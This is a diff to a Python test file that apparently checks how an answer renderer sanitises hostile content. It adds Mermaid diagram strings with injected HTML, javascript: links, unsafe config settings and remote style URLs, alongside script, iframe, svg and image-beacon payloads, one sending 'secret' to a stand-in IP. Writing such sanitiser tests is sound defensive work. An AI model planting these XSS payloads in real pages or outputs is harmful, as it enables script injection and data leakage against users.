@@ -146,11 +146,28 @@ def _error(status: int, message: str, **more: str) -> list[Step]:
     return whole({"error": {"message": message, "type": "x", "code": "x_code"}}, status, x_request_id="up-1", **more)
 
 
+_TAG = "<img src=x onerror=window.hacked=7>"
+_ELSEWHERE = "http://203.0.113.9/a"
+DIAGRAMS = (
+    f'graph TD; A["{_TAG}"] -->|{_TAG}| B; click A href "javascript:window.hacked=7"; click A call hack()',
+    (f"sequenceDiagram\n participant A as {_TAG}\n A->>B: {_TAG}\n Note over A: {_TAG}\n"
+    f' links A: {{"a": "javascript:window.hacked=7"}}\n properties A: {{"icon": "{_ELSEWHERE}"}}'),
+    (f'classDiagram\n class A["{_TAG}"]\n A : +foo {_TAG}\n A : List~img src=x onerror=window.hacked=7~ y\n'
+    f' click A href "{_ELSEWHERE}"\n callback A "hack"'),
+    (f'%%{{init: {{"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* {{ background: url({_ELSEWHERE}) }}"}}}}%%\n'
+    f'graph TD; A["{_TAG}"]'),
+    ("---\ntitle: Plain\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  dompurifyConfig:\n    ALLOWED_ATTR: [onerror, src]\n"
+    f"---\ngraph TD\n A[\"<@{{ q: 1 }}img src=x onerror=window.hacked=7>\"]\n B@{{ img: \"{_ELSEWHERE}\" }}"),
+    f"stateDiagram-v2\n [*] --> A : {_TAG}\n classDef k background:url({_ELSEWHERE})\n class A k",
+    "graph TD\n A[\"<%%{x}%%img src=x onerror=window.hacked=7>\"]\n B[\"#lt;img src=x onerror=window.hacked=7#gt;\"]",
+)  # fmt: skip
+"""Diagrams that try to bring HTML, pictures, styles, links and settings of their own."""
+
 HOSTILE = (
     "# Hello\n\n<script>window.hacked = 1</scr", "ipt>\n\n<img src=x onerror=\"window.hacked = 2\">\n\n",
     "[link](javascript:window.hacked=3) ![pixel](http://203.0.113.9/?q=secret)\n\n",
     "<iframe srcdoc=\"<script>parent.hacked=4</script>\"></iframe>\n\n<svg onload=\"window.hacked = 5\"></svg>\n\n",
-    "$\\href{javascript:window.hacked=6}{x}$\n\n```mermaid\ngraph TD; A[\"<img src=x onerror=window.hacked=7>\"]\n```\n\nend of answer",
+    "$\\href{javascript:window.hacked=6}{x}$\n\n", *(f"```mermaid\n{each}\n```\n\n" for each in DIAGRAMS), "end of answer",
 )  # fmt: skip
 """An answer that tries everything to have the page run something or ask another host, cut where it hurts."""
 
